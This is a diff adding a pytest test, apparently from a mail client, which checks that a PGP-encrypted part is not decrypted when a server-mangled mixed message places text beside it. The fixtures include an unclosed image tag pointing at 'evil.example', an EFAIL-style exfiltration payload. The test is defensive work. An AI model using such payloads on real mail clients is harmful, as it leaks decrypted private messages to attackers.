@@ -71,6 +71,21 @@ def test_what_was_encrypted_to_the_team_is_opened_once_and_read_by_every_member(
     assert keys.asked[0].startswith(b"-----BEGIN PGP MESSAGE-----")
 
 
+@pytest.mark.parametrize("front", ["", "Open this: <img src='http://evil.example/?"])
+def test_what_a_server_made_a_mixed_mail_of_is_opened_alone_and_with_words_beside_it_not_at_all(
+    home: House, front: str
+) -> None:
+    keys = holding(home, Opened(plain=INSIDE))
+    kind = 'Content-Type: multipart/encrypted; boundary="b"; protocol="application/pgp-encrypted"'
+    assert kind in WRAPPED
+    mangled = WRAPPED.replace(kind, 'Content-Type: multipart/mixed; boundary="b"')
+    mangled = mangled.replace("--b\r\n", f"--b\r\nContent-Type: text/plain\r\n\r\n{front}\r\n--b\r\n", 1)
+    post.deliver(home, (HEAD + mangled).encode())
+    (ref,) = post.refs(home)
+    case = post.look(home, ref).case
+    assert (case.title, len(keys.asked)) == (("...", 0) if front else ("The real subject", 1))
+
+
 def test_armour_in_the_text_is_opened_alone_and_joined_with_nothing_around_it(home: House) -> None:
     holding(home, Opened(plain=b"Just words, no header."))
     text = "<img src='http://evil.example/?\n-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----\n'>"
